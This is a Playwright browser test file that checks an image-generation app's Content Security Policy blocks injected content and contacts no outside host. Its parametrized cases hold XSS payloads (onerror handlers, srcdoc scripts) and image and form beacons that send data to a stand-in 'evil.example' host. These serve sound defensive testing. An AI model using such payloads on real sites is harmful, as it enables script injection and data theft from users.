"""The screens under their Content Security Policy, in a real browser: nothing of theirs is held up, what is smuggled in
is."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.browser.painted_studio import PaintedStudio

pytestmark = pytest.mark.browser

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""


@pytest.fixture
def page(chromium: Browser, painted: PaintedStudio) -> Iterator[Page]:
    page = chromium.new_page(viewport={"width": 1440, "height": 900})
    page.add_init_script(LISTEN)
    page.goto(painted.url)
    expect(prompt(page)).to_be_visible(timeout=30_000)
    expect(page.get_by_role("feed", name="Your jobs")).to_be_visible()
    yield page
    page.close()


def prompt(page: Page) -> Locator:
    return page.get_by_placeholder("Say what the picture should show")


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


def test_the_screens_violate_nothing_and_ask_no_other_host(page: Page, painted: PaintedStudio) -> None:
    asked: set[str] = set()
    page.on("request", lambda request: asked.add(request.url))
    picture = page.locator("img[src*='/media/']:visible").first
    prompt(page).fill("a red boat")
    page.get_by_role("button", name="Generate").click()
    expect(picture).to_be_visible(timeout=30_000)
    picture.click()
    page.keyboard.press("Escape")
    page.get_by_role("tab", name="Library").click()
    expect(picture).to_be_visible()
    page.get_by_role("tab", name="Jobs").click()
    expect(page.get_by_text("a red boat").locator("visible=true").first).to_be_visible()
    assert violations(page) == []
    assert [url for url in asked if not url.startswith((painted.url, "data:", "blob:"))] == []


@pytest.mark.parametrize(
    ("smuggled", "rule"),
    [
        ("<img src=x onerror='window.hacked = true'>", "script-src-attr"),
        ("<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>", "script-src-elem"),
        ("<img src='https://evil.example/?stolen'>", "img-src"),
        ("<form action='https://evil.example/'><button id='send'>x</button></form>", "form-action"),
    ],
)
def test_what_is_smuggled_into_the_page_neither_runs_nor_tells(page: Page, smuggled: str, rule: str) -> None:
    insert = (
        "html => { const place = document.createElement('div'); place.innerHTML = html; document.body.append(place) }"
    )
    page.evaluate(insert, smuggled)
    if rule == "form-action":
        page.evaluate("document.querySelector('#send').click()")
    page.wait_for_function("window.violations.length > 0 || window.frames.length > 0")
    assert page.evaluate("window.hacked") is None
    if rule != "script-src-elem":  # the frame reports its own
        assert violations(page)[0].startswith(rule)


def test_no_script_that_is_written_into_the_page_runs(page: Page) -> None:
    page.evaluate(
        "() => { const script = document.createElement('script'); script.text = 'window.hacked = true';"
        " document.head.append(script) }"
    )
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.hacked") is None
    assert violations(page) == ["script-src-elem inline"]
